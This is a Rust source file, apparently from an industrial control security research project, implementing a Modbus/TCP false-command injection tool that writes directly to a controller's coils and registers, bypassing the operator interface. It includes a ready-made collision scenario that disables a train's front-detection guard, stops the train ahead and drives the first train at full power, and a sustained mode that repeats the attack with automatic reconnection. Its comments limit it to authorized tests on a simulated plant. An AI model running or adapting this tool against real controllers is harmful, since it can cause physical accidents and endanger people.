/// False command injection harness.
///
/// Opens its own Modbus/TCP connection to one controller and writes coils and
/// registers directly, bypassing the aggregator and the topology model. The
/// controller cannot tell these writes from the HMI's: both arrive as plain,
/// unauthenticated function 0x05/0x06 requests.
///
/// SECURITY RESEARCH ONLY: for authorized testing against simulated plant.
use chrono::{DateTime, Utc};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use std::time::Duration;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::config::ControllerEndpoint;
use crate::error::{Result, ScadaError};
use crate::event_log::EventJournal;
use crate::transport::{FieldBus, PlcClient};
use crate::types::{ControllerId, IoAddress, IoTable};

/// One write in the attack sequence
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum InjectionStep {
    WriteCoil { index: u16, value: bool },
    WriteRegister { index: u16, value: u16 },
}

impl InjectionStep {
    fn address(&self, controller: &ControllerId) -> IoAddress {
        let (table, offset) = match self {
            InjectionStep::WriteCoil { index, .. } => (IoTable::Coils, *index),
            InjectionStep::WriteRegister { index, .. } => (IoTable::HoldingRegisters, *index),
        };
        IoAddress {
            controller: controller.clone(),
            table,
            offset: offset as usize,
        }
    }

    fn raw_value(&self) -> u16 {
        match self {
            InjectionStep::WriteCoil { value, .. } => u16::from(*value),
            InjectionStep::WriteRegister { value, .. } => *value,
        }
    }
}

/// Bounded exponential backoff with jitter
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RetryPolicy {
    pub initial: Duration,
    pub max: Duration,
    pub max_attempts: u32,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        Self {
            initial: Duration::from_millis(500),
            max: Duration::from_secs(8),
            max_attempts: 10,
        }
    }
}

impl RetryPolicy {
    /// Base delay after `attempt` failures (1-based), before jitter
    pub fn backoff(&self, attempt: u32) -> Duration {
        let factor = 1u32.checked_shl(attempt.saturating_sub(1)).unwrap_or(u32::MAX);
        self.initial.saturating_mul(factor).min(self.max)
    }

    /// Backoff plus up to 25% random jitter
    fn delay(&self, attempt: u32) -> Duration {
        let base = self.backoff(attempt);
        let jitter_ms = (base.as_millis() / 4) as u64;
        if jitter_ms == 0 {
            return base;
        }
        base + Duration::from_millis(rand::thread_rng().gen_range(0..=jitter_ms))
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct InjectionConfig {
    pub target: ControllerId,

    /// `host:port` of the target controller
    pub address: String,

    pub unit_id: u8,

    pub steps: Vec<InjectionStep>,

    /// Pause between consecutive steps of one round
    pub step_delay: Duration,

    /// Pause between rounds in sustained mode
    pub round_interval: Duration,

    /// Stop sustained mode after this many rounds (None = until cancelled)
    pub max_rounds: Option<u32>,

    pub io_timeout: Duration,

    pub retry: RetryPolicy,
}

impl InjectionConfig {
    pub fn new(target: &ControllerEndpoint, steps: Vec<InjectionStep>) -> Self {
        Self {
            target: target.id.clone(),
            address: target.address.clone(),
            unit_id: target.unit_id,
            steps,
            step_delay: Duration::ZERO,
            round_interval: Duration::from_secs(1),
            max_rounds: None,
            io_timeout: Duration::from_secs(1),
            retry: RetryPolicy::default(),
        }
    }

    /// Collision scenario against the train controller: disarm the
    /// front-train detection guard of the first west-east train, stop the
    /// train ahead of it, then put the first train on full power.
    pub fn front_sensor_bypass(target: &ControllerEndpoint) -> Self {
        let mut config = Self::new(
            target,
            vec![
                InjectionStep::WriteCoil {
                    index: 10,
                    value: false,
                },
                InjectionStep::WriteCoil { index: 1, value: false },
                InjectionStep::WriteCoil { index: 0, value: true },
            ],
        );
        config.step_delay = Duration::from_secs(1);
        config
    }

    pub fn with_timing(mut self, step_delay: Duration, round_interval: Duration) -> Self {
        self.step_delay = step_delay;
        self.round_interval = round_interval;
        self
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StepOutcome {
    pub step: InjectionStep,
    /// `None` when the controller acknowledged the write
    pub error: Option<String>,
}

impl StepOutcome {
    pub fn acknowledged(&self) -> bool {
        self.error.is_none()
    }
}

#[derive(Debug, Clone)]
pub struct InjectionReport {
    pub round: u32,
    pub outcomes: Vec<StepOutcome>,
    pub completed_at: DateTime<Utc>,
}

impl InjectionReport {
    pub fn acknowledged(&self) -> usize {
        self.outcomes.iter().filter(|o| o.acknowledged()).count()
    }

    pub fn all_acknowledged(&self) -> bool {
        self.acknowledged() == self.outcomes.len()
    }
}

#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct InjectionStats {
    pub rounds: u32,
    pub writes_acknowledged: u64,
    pub writes_failed: u64,
    pub connect_attempts: u64,
}

pub struct CommandInjector {
    config: InjectionConfig,
    client: Arc<dyn FieldBus>,
    journal: Option<EventJournal>,
    stats: InjectionStats,
}

impl CommandInjector {
    pub fn new(config: InjectionConfig) -> Self {
        let client = Arc::new(PlcClient::new(
            config.target.clone(),
            config.address.clone(),
            config.unit_id,
            config.io_timeout,
        ));
        Self::with_transport(config, client)
    }

    pub fn with_transport(config: InjectionConfig, client: Arc<dyn FieldBus>) -> Self {
        Self {
            config,
            client,
            journal: None,
            stats: InjectionStats::default(),
        }
    }

    pub fn with_journal(mut self, journal: EventJournal) -> Self {
        self.journal = Some(journal);
        self
    }

    pub fn config(&self) -> &InjectionConfig {
        &self.config
    }

    pub fn stats(&self) -> &InjectionStats {
        &self.stats
    }

    pub fn is_connected(&self) -> bool {
        self.client.is_connected()
    }

    /// Connect, backing off between failures. Returns the attempt that
    /// succeeded. Cancellation abandons the retry immediately.
    pub async fn connect_with_retry(&mut self, cancel: &CancellationToken) -> Result<u32> {
        let policy = self.config.retry;
        let max_attempts = policy.max_attempts.max(1);
        let mut last_err = None;

        for attempt in 1..=max_attempts {
            if cancel.is_cancelled() {
                break;
            }
            self.stats.connect_attempts += 1;
            match self.client.connect().await {
                Ok(()) => {
                    info!(target_plc = %self.config.target, attempt, "target accepted connection");
                    return Ok(attempt);
                }
                Err(e) => {
                    let delay = policy.delay(attempt);
                    debug!(target_plc = %self.config.target, attempt, error = %e, ?delay, "connect failed, backing off");
                    last_err = Some(e);
                    if attempt == max_attempts {
                        break;
                    }
                    tokio::select! {
                        _ = cancel.cancelled() => break,
                        _ = tokio::time::sleep(delay) => {}
                    }
                }
            }
        }

        Err(last_err.unwrap_or_else(|| ScadaError::NotConnected(self.config.target.clone())))
    }

    /// One pass over the configured steps
    pub async fn inject_once(&mut self) -> InjectionReport {
        self.inject_round(&CancellationToken::new()).await
    }

    /// One pass that stops between steps once `cancel` fires; the report
    /// then only holds the steps actually issued
    pub async fn inject_round(&mut self, cancel: &CancellationToken) -> InjectionReport {
        let round = self.stats.rounds + 1;
        let mut outcomes = Vec::with_capacity(self.config.steps.len());

        for (i, step) in self.config.steps.clone().into_iter().enumerate() {
            if cancel.is_cancelled() {
                break;
            }
            if i > 0 && !self.config.step_delay.is_zero() {
                tokio::select! {
                    _ = cancel.cancelled() => break,
                    _ = tokio::time::sleep(self.config.step_delay) => {}
                }
            }

            let result = match step {
                InjectionStep::WriteCoil { index, value } => self.client.write_coil(index, value).await,
                InjectionStep::WriteRegister { index, value } => self.client.write_register(index, value).await,
            };

            let addr = step.address(&self.config.target);
            let acknowledged = result.is_ok();
            if let Some(journal) = &self.journal {
                journal.log_injected_write(&addr, step.raw_value(), acknowledged);
            }

            match result {
                Ok(()) => {
                    self.stats.writes_acknowledged += 1;
                    info!(target_plc = %self.config.target, round, table = ?addr.table, offset = addr.offset, value = step.raw_value(), "injected write acknowledged");
                    outcomes.push(StepOutcome { step, error: None });
                }
                Err(e) => {
                    self.stats.writes_failed += 1;
                    warn!(target_plc = %self.config.target, round, table = ?addr.table, offset = addr.offset, error = %e, "injected write failed");
                    outcomes.push(StepOutcome {
                        step,
                        error: Some(e.to_string()),
                    });
                }
            }
        }

        self.stats.rounds = round;
        InjectionReport {
            round,
            outcomes,
            completed_at: Utc::now(),
        }
    }

    /// Repeat the sequence until cancelled or `max_rounds` is reached,
    /// reconnecting with backoff when the target drops the link. The
    /// connection is closed on the way out.
    pub async fn run_sustained(&mut self, cancel: CancellationToken) -> Result<InjectionStats> {
        let result = self.sustain(&cancel).await;
        self.client.disconnect().await;
        result.map(|()| self.stats.clone())
    }

    async fn sustain(&mut self, cancel: &CancellationToken) -> Result<()> {
        loop {
            if cancel.is_cancelled() {
                return Ok(());
            }
            if !self.client.is_connected() {
                match self.connect_with_retry(cancel).await {
                    Ok(_) => {}
                    Err(_) if cancel.is_cancelled() => return Ok(()),
                    Err(e) => return Err(e),
                }
            }

            let report = self.inject_round(cancel).await;
            if cancel.is_cancelled() {
                return Ok(());
            }
            if !report.all_acknowledged() {
                warn!(
                    round = report.round,
                    acknowledged = report.acknowledged(),
                    total = report.outcomes.len(),
                    "round partially rejected"
                );
            }

            if let Some(max) = self.config.max_rounds
                && report.round >= max
            {
                return Ok(());
            }

            tokio::select! {
                _ = cancel.cancelled() => return Ok(()),
                _ = tokio::time::sleep(self.config.round_interval) => {}
            }
        }
    }

    pub async fn disconnect(&self) {
        self.client.disconnect().await;
    }
}
